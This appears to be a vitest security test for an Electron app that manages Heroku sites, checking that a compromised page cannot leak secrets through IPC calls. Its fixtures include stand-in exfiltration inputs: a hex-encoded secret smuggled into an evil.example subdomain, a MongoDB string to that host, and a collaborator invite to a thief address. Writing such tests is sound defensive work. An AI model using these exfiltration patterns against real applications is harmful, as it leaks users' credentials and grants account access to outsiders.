import { describe, expect, it } from 'vitest';

import { createApplication } from '../../electron/application/create-application.ts';
import type { Application } from '../../electron/application/application.ts';
import { callNames, type CallAnswer, type CallInput, type CallName } from '../../electron/contract/calls.ts';
import type { Result } from '../../electron/contract/result.ts';
import { guardedCalls } from '../../electron/ipc/guarded-calls.ts';
import { createHandlers } from '../../electron/ipc/calls/index.ts';
import { createRouter } from '../../electron/ipc/router.ts';
import type { LastQuestion } from '../../electron/services/actions/delete-confirmation.ts';
import { systemClock } from '../../electron/base/clock.ts';
import { startPractice } from '../../electron/practice/start.ts';
import { fakeDesktop, fakeFiles, fakePrinter, memoryVault } from '../support/app-core.ts';
import { temporaryFolder } from '../support/temporary.ts';
import { createMainLanguage } from '../../electron/locales/locale.ts';

/** A page whose script went bad. It can make calls, and nothing else. */
interface HostilePage {
  readonly core: Application;
  /** Addresses outside Heroku's that main asked. */
  readonly reached: readonly string[];
  readonly asked: readonly LastQuestion[];
  readonly close: () => Promise<void>;
  readonly call: <Name extends CallName>(
    name: Name,
    input: CallInput<Name>,
  ) => Promise<Result<CallAnswer<Name>>>;
}

const page = { isOurMainFrame: true, url: 'app://sitekeeper/index.html' };

/** The app as it is packed, over the real network; the practice world plays Heroku, all else is noted. */
async function hostilePage(): Promise<HostilePage> {
  const world = await startPractice({ clock: systemClock });
  const reached: string[] = [];
  const asked: LastQuestion[] = [];
  const core = createApplication({
    fetch: async (url, init) => {
      const { origin, pathname, search } = new URL(url);
      if (origin === 'https://api.heroku.com') return fetch(world.origin + pathname + search, init);
      reached.push(url);
      return Response.json({ message: { message: 'UNAUTHORIZED' } }, { status: 401 });
    },
    loopbackFetch: fetch,
    clock: systemClock,
    vault: memoryVault(),
    directory: await temporaryFolder(),
    emit: () => undefined,
    files: fakeFiles(),
    printer: fakePrinter(),
    language: createMainLanguage('en-GB'),
    confirmNatively: async (question) => {
      asked.push(question);
      return false;
    },
    version: '0',
    runtime: 'electron',
    packaged: true,
    herokuApi: undefined,
    practice: {},
  });
  const desktop = fakeDesktop();
  const router = createRouter({
    handlers: createHandlers(core, desktop),
    origin: 'app://sitekeeper',
    onBug: core.bug,
    onRefused: () => undefined,
  });
  await core.start();
  desktop.clipboard = world.key;
  await router('account.paste', page, undefined);
  await router('account.keep', page, undefined);
  return {
    core,
    reached,
    asked,
    call: (name, input) => router(name, page, input),
    async close() {
      await core.close();
      await world.close();
    },
  };
}

const notAgreed = { ok: false, problem: { code: 'not-agreed', changed: 'no' } };

describe('a bad package in the page, with calls alone', () => {
  it('gets no secret out, reaches no computer of its own choice and lets nobody in', async () => {
    const { call, reached, asked, core, close } = await hostilePage();
    const list = await call('sites.list', { fresh: true });
    const [site] = list.ok ? list.value.sites : [];
    const id = site?.id ?? '';
    const settings = await call('configVars.list', { id });
    const secret = settings.ok ? settings.value.rows.find((row) => row.secret) : undefined;
    const name = secret?.name ?? '';
    expect(name).not.toBe('');

    expect(await call('configVars.reveal', { id, name })).toEqual(notAgreed);
    expect(await call('configVars.copy', { id, name })).toEqual(notAgreed);
    const address = `${Buffer.from('a secret').toString('hex')}.evil.example`;
    expect(await call('mongodb.exportFromSite', { address, secret: 'x' })).toEqual(notAgreed);
    const typed = await call('connectionStrings.type', {
      site: null,
      text: `mongodb+srv://u:pw-7731@${address}/db`,
    });
    const string = typed.ok ? typed.value.id : '';
    expect(await call('connectionStrings.test', { string, write: false })).toEqual(notAgreed);
    expect(await call('connectionStrings.reveal', { string })).toEqual(notAgreed);
    expect(await call('connectionStrings.copy', { string })).toEqual(notAgreed);
    expect(await call('mongodb.measure', { string })).toEqual(notAgreed);
    expect(await call('collaborators.invite', { id, email: 'thief@evil.example' })).toEqual(notAgreed);
    const changes = [{ name: 'API_SECRET', kind: 'set', value: 'known to a thief' }] as const;
    expect(await call('configVars.apply', { id, changes })).toEqual(notAgreed);
    expect(await call('actions.changeDynoSize', { id, size: 'Performance-L' })).toEqual(notAgreed);
    expect(await call('actions.rename', { id, name: 'a-secret-as-a-name' })).toEqual(notAgreed);

    expect(reached).toEqual([]);
    expect(asked.map(({ act }) => act)).toContain('invite');
    expect(core.connectedAccounts().flatMap(({ jobs }) => jobs.list())).toEqual([]);
    await close();
  });

  it('has no call that is not thought about: each is guarded, or listed here as one that needs no guard', () => {
    const free = callNames.filter((name) => !Object.hasOwn(guardedCalls, name));
    expect(free.toSorted()).toEqual(needsNone.toSorted());
  });
});

/** They look, they ask in a window of main's own (delete, save, pick a file), or what they do is undone in one press. */
const needsNone: readonly string[] = `
  backups.comparePick backups.compareUnlock backups.compareView history.leave sites.copyAddress
  app.snapshot preferences.set app.openLink app.enterPractice app.leavePractice
  account.paste account.type account.keep account.discard sites.list
  sites.refresh sites.open sites.setTitle actions.restart actions.wake
  sites.detail actions.turnOff actions.turnOn actions.close actions.reopen
  actions.delete actions.issueTicket accountCleanup.list actions.losses pricing.list
  configVars.list configVars.review backups.lock backups.unlock backups.list
  backups.save backups.saveAll backups.stopSaveAll backups.exportKey backups.restorePick backups.restorePaste backups.restoreReview backups.restoreUnlock
  backups.restoreFromCopy releases.list releases.preview collaborators.list collaborators.remove
  actions.removeAddon jobs.list jobs.stop history.list history.drift shutdown.view
  shutdown.begin shutdown.goTo shutdown.setNotifyList shutdown.setTaskDone shutdown.turnOff
  shutdown.startAgain shutdown.stop shutdown.check shutdown.paidAddons shutdown.end
  shutdown.receipt connectionStrings.ofSite connectionStrings.find connectionStrings.pick connectionStrings.unlock
  connectionStrings.paste connectionStrings.type connectionStrings.pasteAnswer connectionStrings.answer connectionStrings.stopTest
  connectionStrings.saveFile guides.list guides.keep guides.end mongodb.cleanupTicket
  mongodb.cleanupUndo
`
  .trim()
  .split(/\s+/);
